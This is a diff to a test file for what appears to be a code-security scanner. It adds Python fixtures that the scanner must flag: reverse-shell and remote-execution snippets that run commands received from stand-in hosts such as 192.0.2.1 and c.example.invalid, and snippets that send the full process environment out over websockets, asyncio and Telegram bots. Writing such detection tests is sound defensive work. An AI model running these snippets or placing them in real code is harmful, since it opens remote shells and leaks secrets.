@@ -25,8 +25,26 @@ describe('what a connection sends is run', () => {
       'a.py',
       'import subprocess, websocket\nw = websocket.create_connection("ws://192.0.2.1:99")\nw.send(subprocess.check_output(w.recv(), shell=True))\n',
     ],
+    [
+      'a.py',
+      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    exec((await r.read()).decode())\n',
+    ],
+    [
+      'a.py',
+      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    while True:\n        c = (await r.readline()).decode().strip()\n        p = await asyncio.create_subprocess_shell(c, stdout=asyncio.subprocess.PIPE)\n        out, _ = await p.communicate()\n        w.write(out)\n',
+    ],
+    [
+      'a.py',
+      'import aiohttp, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.ws_connect("wss://c.example.invalid") as w:\n            os.system(await w.receive_str())\n',
+    ],
   ])('%s', async (path, text) => {
     expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-EXECUTE CRITICAL');
+  });
+
+  it('passes lines that are shown', async () => {
+    const text =
+      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("example.com", 80)\n    w.write(b"GET / HTTP/1.0\\r\\n\\r\\n")\n    await asyncio.create_subprocess_exec("make", "test")\n    print((await r.readline()).decode())\n';
+    expect(await decision('a.py', text)).toBe('pass');
   });
 
   it.each([
@@ -40,6 +58,31 @@ describe('what a connection sends is run', () => {
     ],
   ])('passes %s', async (_, text) => {
     expect(await decision('a.js', text)).toBe('pass');
+  });
+});
+
+describe('what messengers and connections of other libraries are given to send', () => {
+  const ENVIRONMENT = 'dict(os.environ)';
+
+  it.each([
+    [
+      'a connection of websockets',
+      'import json, os, websockets\nasync def m():\n    async with websockets.connect("wss://c.example.invalid") as w:\n        await w.send(json.dumps(dict(os.environ)))\n',
+    ],
+    [
+      'a writer of asyncio',
+      'import asyncio, os\nasync def m():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    w.write(str(dict(os.environ)).encode())\n',
+    ],
+    ['telebot', 'import os, telebot\ntelebot.TeleBot("t").send_message(1, str(dict(os.environ)))\n'],
+    [
+      'telegram',
+      'import os, telegram\nasync def m():\n    await telegram.Bot(token="t").send_message(chat_id=1, text=str(dict(os.environ)))\n',
+    ],
+  ])('%s', async (_, text) => {
+    expect(text).toContain(ENVIRONMENT);
+    expect(await verdicts('a.py', text)).toContain('CODE-ENVIRONMENT-SENT CRITICAL');
+    const one = text.replace(ENVIRONMENT, 'os.environ.get("STAGE")');
+    expect(await decision('a.py', one)).toBe('pass');
   });
 });
 
